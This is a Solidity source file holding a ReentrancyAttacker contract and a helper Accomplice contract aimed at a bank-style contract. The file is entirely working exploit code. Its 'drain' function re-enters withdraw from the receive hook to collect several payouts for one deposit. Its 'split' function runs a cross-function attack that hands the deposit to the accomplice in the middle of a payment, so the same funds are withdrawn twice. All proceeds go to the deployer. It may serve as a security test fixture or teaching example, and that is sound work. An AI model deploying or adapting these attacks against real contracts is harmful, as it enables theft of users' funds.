// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IBank {
    function deposit() external payable;
    function withdraw(uint256) external;
    function give(address, uint256) external;
    function balances(address) external view returns (uint256);
}

/// Where the other half of a cross-function attack is parked: it withdraws what it was given.
contract Accomplice {
    function take(IBank bank, address payable to) external {
        bank.withdraw(bank.balances(address(this)));
        (bool paid, ) = to.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {}
}

/// Robs a Bank while it pays: `drain` withdraws again and again, `split` gives the deposit away in the middle of a payment.
contract ReentrancyAttacker {
    address payable private immutable owner = payable(msg.sender);
    Accomplice private immutable accomplice = new Accomplice();
    IBank private bank;
    uint256 private rounds;
    bool private splitting;

    /// Same function, `rounds_` payments for one deposit.
    function drain(IBank bank_, uint256 rounds_) external payable {
        (bank, rounds) = (bank_, rounds_ - 1);
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
        _keep();
    }

    /// Cross-function: one withdrawal, and the same deposit again through an accomplice.
    function split(IBank bank_) external payable {
        (bank, splitting) = (bank_, true);
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
        accomplice.take(bank, payable(address(this)));
        _keep();
    }

    function _keep() private {
        (bool paid, ) = owner.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        if (msg.sender != address(bank)) return;
        if (splitting) {
            splitting = false;
            bank.give(address(accomplice), msg.value);
        } else if (rounds > 0 && msg.sender.balance >= msg.value) {
            rounds -= 1;
            bank.withdraw(msg.value);
        }
    }
}
